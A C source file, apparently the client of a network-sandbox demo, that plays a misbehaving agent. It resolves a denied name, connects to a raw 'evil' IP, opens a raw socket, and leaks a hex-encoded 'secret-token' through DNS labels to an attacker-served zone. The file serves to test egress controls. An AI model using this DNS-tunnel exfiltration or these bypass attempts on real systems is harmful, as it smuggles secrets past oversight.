/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * An agent that behaves badly, in five attempts. It asks DNS by itself (RFC 1035) so that the demo
 * needs no resolver library and no resolv.conf on the machine. Read demo.c for what should come.
 */
#include "demo_client.h"

#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include "../base/addr.h"
#include "../base/cleanup.h"
#include "demo_world.h"

#define TYPE_A 1
#define TYPE_TXT 16

static void say(const char *id, const char *saw)
{
	printf("%s\t%s\n", id, saw);
	fflush(stdout);
}

static int open_to(const char *addr, int type, uint16_t port)
{
	struct sockaddr_storage to;
	struct endpoint endpoint = {.port = port};
	struct timeval patience = {.tv_sec = 3};
	_cleanup_close_ int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -errno;
	addr_parse(addr, strlen(addr), &endpoint.addr);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
	socklen_t len = endpoint_to_sockaddr(&endpoint, &to);

	if (connect(fd, (struct sockaddr *)&to, len) < 0)
		return -errno;
	return TAKE_FD(fd);
}

static size_t build_question(const char *name, uint16_t type, uint8_t msg[static 512])
{
	static const uint8_t head[12] = {0x4e, 0x4a, 1, 0, 0, 1};
	size_t at = sizeof(head);

	memcpy(msg, head, sizeof(head));
	for (const char *label = name; *label;) {
		size_t len = strcspn(label, ".");

		msg[at++] = (uint8_t)len;
		memcpy(msg + at, label, len);
		at += len;
		label += len + (label[len] == '.');
	}
	memcpy(msg + at, (uint8_t[]){0, 0, (uint8_t)type, 0, 1}, 5);
	return at + 5;
}

/* Asks `resolver`; text gets the address, or what was said instead. 0 with an address. */
static int ask(const char *resolver, const char *name, uint16_t type, char *text, size_t size)
{
	static const char *const codes[] = {
		"NOERROR", "FORMERR", "SERVFAIL", "NXDOMAIN", "NOTIMP", "REFUSED"};
	uint8_t msg[512];
	size_t asked = build_question(name, type, msg);
	_cleanup_close_ int fd = open_to(resolver, SOCK_DGRAM, 53);
	ssize_t n = -1;

	if (fd >= 0 && send(fd, msg, asked, 0) >= 0)
		n = recv(fd, msg, sizeof(msg), 0);
	if (n < 12) {
		snprintf(text, size, "%s", strerror(fd < 0 ? -fd : errno));
		return -1;
	}
	unsigned int code = msg[3] & 15;

	if (code || !msg[7] || (size_t)n < asked + 16) {
		snprintf(text, size, "%s", code < ARRAY_SIZE(codes) ? codes[code] : "error");
		return -1;
	}
	struct addr addr = addr_from_v4((uint32_t)msg[asked + 12] << 24 |
		(uint32_t)msg[asked + 13] << 16 | (uint32_t)msg[asked + 14] << 8 | msg[asked + 15]);

	addr_print(&addr, text);
	return 0;
}

/* GET / at an address: first line of the answer and first line of its body */
static void get(const char *addr, const char *host, char *saw, size_t size)
{
	char text[4096];
	_cleanup_close_ int fd = open_to(addr, SOCK_STREAM, 80);
	size_t have = 0;
	ssize_t n;

	if (fd < 0) {
		snprintf(saw, size, "connect: %s", strerror(-fd));
		return;
	}
	int len = snprintf(text, sizeof(text),
		"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", host);

	send(fd, text, (size_t)len, MSG_NOSIGNAL);
	while (have < sizeof(text) - 1 &&
		(n = recv(fd, text + have, sizeof(text) - 1 - have, 0)) > 0)
		have += (size_t)n;
	text[have] = 0;
	if (!have) {
		snprintf(saw, size, "connection closed");
		return;
	}
	const char *body = strstr(text, "\r\n\r\n");

	body = body ? body + 4 : "";
	snprintf(saw, size, "%.*s: %.*s", (int)strcspn(text, "\r\n"), text,
		(int)strcspn(body, "\r\n"), body);
}

static void try_name(const char *id, const char *name)
{
	char addr[ADDR_TEXT_BYTES], saw[600];

	if (ask(DEMO_RESOLVER, name, TYPE_A, addr, sizeof(addr)) < 0)
		snprintf(saw, sizeof(saw), "%s", addr);
	else
		get(addr, name, saw, sizeof(saw));
	say(id, saw);
}

static void try_address(const char *id)
{
	char saw[600];

	get(DEMO_EVIL_ADDR, DEMO_EVIL_ADDR, saw, sizeof(saw));
	say(id, saw);
}

static void try_raw_socket(const char *id)
{
	_cleanup_close_ int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);

	say(id, fd < 0 ? strerror(errno) : "a raw socket");
}

/* The secret leaves as labels of a name whose zone the attacker serves. */
static void try_tunnel(const char *id)
{
	char text[ADDR_TEXT_BYTES];

	if (ask(DEMO_OTHER_RESOLVER, "7365637265742d746f6b656e." DEMO_EVIL_NAME, TYPE_TXT, text,
		    sizeof(text)) == 0)
		snprintf(text, sizeof(text), "an answer");
	say(id, text);
}

int demo_client_main(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	try_name("allowed", DEMO_GOOD_NAME);
	try_name("denied", DEMO_EVIL_NAME);
	try_address("address");
	try_raw_socket("raw");
	try_tunnel("tunnel");
	return 0;
}
